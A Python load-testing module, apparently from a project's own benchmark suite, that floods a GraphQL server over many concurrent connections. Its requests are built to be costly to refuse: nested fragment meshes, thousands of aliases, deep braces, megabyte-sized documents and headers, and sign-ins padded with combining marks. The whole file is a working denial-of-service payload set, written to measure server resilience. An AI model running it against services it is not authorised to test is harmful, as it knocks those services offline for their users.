"""Sends requests without a token that are expensive to refuse, over and over, on several connections at once.

    python -m bench.hostile.attacks URL CONNECTIONS NAME…

Each connection sends the attacks with these names in turn. It sends the next request as soon as the previous one is
answered, and connects again if the server closes the connection. The program ends when its standard input is closed.
It then writes the number of answers to standard output.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import sys
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

ANSWER_SECONDS = 30
SEVERAL_TYPES = "fragment F on __Schema { types { name description fields { name description args { name } } } }"

Attack = Callable[[int], tuple[dict[str, str], bytes]]
"""Returns the headers and the body of the n-th request of an attack."""


def _graphql(query: str, variables: object = None) -> tuple[dict[str, str], bytes]:
    return {}, json.dumps({"query": query, "variables": variables}).encode()


def _aliased_introspection(n: int) -> tuple[dict[str, str], bytes]:
    fields = " ".join(f"a{n}_{i}: __schema {{ ...F }}" for i in range(20))
    return _graphql(f"{{ {fields} }} {SEVERAL_TYPES}")


def _introspection(n: int) -> tuple[dict[str, str], bytes]:
    return _graphql(f"query Q{n} {{ __schema {{ ...F }} }} {SEVERAL_TYPES}")


def _sign_in(email: str) -> tuple[dict[str, str], bytes]:
    query = 'mutation ($email: String!) { signIn(input: {email: $email, password: "wrong"}) { accessToken } }'
    return _graphql(query, {"email": email})


def _marks(n: int) -> tuple[dict[str, str], bytes]:
    return _sign_in(f"{n}a" + "\u0344\u0315" * 16_000)


def _short_sign_in(n: int) -> tuple[dict[str, str], bytes]:
    return _sign_in(f"nobody{n}@example.com")


def _spaces(n: int) -> tuple[dict[str, str], bytes]:
    query = "query ($phone: String!) { callers(phone: $phone) { contact { id } } }"
    return _graphql(query, {"phone": f"{n}" + " " * 20_000 + "x"})


def _fragments(n: int) -> tuple[dict[str, str], bytes]:
    """Returns a query with a mesh of fragments: each fragment contains all later fragments."""
    count = 60
    later = [" ".join(f"...F{j}" for j in range(i + 1, count)) for i in range(count)]
    fragments = " ".join(f"fragment F{i} on Query {{ a{n}: __typename {later[i]} }}" for i in range(count))
    return _graphql(f"{{ ...F0 }} {fragments}")


def _aliases(n: int) -> tuple[dict[str, str], bytes]:
    return _graphql("{ " + " ".join(f"a{n}_{i}: __typename" for i in range(12_000)) + " }")


def _braces(n: int) -> tuple[dict[str, str], bytes]:
    return _graphql(f"query Q{n} " + "{ a " * 50_000)


def _long_document(n: int) -> tuple[dict[str, str], bytes]:
    return _graphql(f"{{ a{n} }} #" + "x" * 1_900_000)


def _lists(_: int) -> tuple[dict[str, str], bytes]:
    return {}, b'{"query": "{ __typename }", "variables": {"v": [' + b"[]," * 600_000 + b"[]]}}"


def _headers(n: int) -> tuple[dict[str, str], bytes]:
    return {"x-long": "x" * 1_000_000}, _graphql(f"{{ a{n} }}")[1]


ATTACKS: dict[str, Attack] = {
    "introspection, 20 times in a document": _aliased_introspection,
    "introspection": _introspection,
    "a sign-in with 32,000 combining marks": _marks,
    "a sign-in of an unknown account": _short_sign_in,
    "a phone number of 20,000 spaces": _spaces,
    "a mesh of 60 fragments": _fragments,
    "12,000 aliases": _aliases,
    "50,000 open braces": _braces,
    "a document of 1.9 MB": _long_document,
    "variables with 600,000 lists": _lists,
    "a header of 1 MB": _headers,
}


def requests(url: str, names: list[str], connection: int) -> Iterator[bytes]:
    """Yields HTTP requests without end: each of the attacks `names` in turn.

    `connection`: a number that makes the requests unique.
    """
    parts = urlsplit(url)
    for n, name in enumerate(itertools.cycle(names)):
        given, body = ATTACKS[name](connection * 1_000_000 + n)
        headers = {"host": parts.netloc, "content-type": "application/json", "content-length": str(len(body)), **given}
        lines = "".join(f"{key}: {value}\r\n" for key, value in headers.items())
        yield f"POST {parts.path} HTTP/1.1\r\n{lines}\r\n".encode() + body


async def _answer(reader: asyncio.StreamReader) -> None:
    """Reads one answer. Raises EOFError if the server closes the connection before the answer is complete."""
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    size = next((int(line[15:]) for line in head.split(b"\r\n") if line.startswith(b"content-length:")), 0)
    await reader.readexactly(size)


async def _attack(url: str, names: list[str], connection: int, answers: list[int]) -> None:
    parts = urlsplit(url)
    sent = requests(url, names, connection)
    while True:
        with contextlib.suppress(OSError, EOFError, TimeoutError):
            reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
            try:
                for request in sent:
                    async with asyncio.timeout(ANSWER_SECONDS):
                        writer.write(request)
                        await writer.drain()
                        await _answer(reader)
                    answers[0] += 1
            finally:
                writer.close()
        await asyncio.sleep(0.001)  # in case the server refuses connections


async def main(url: str, connections: int, names: list[str]) -> None:
    """Attacks until standard input is closed."""
    answers = [0]
    tasks = [asyncio.create_task(_attack(url, names, place, answers)) for place in range(connections)]
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(answers[0])


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3:]))
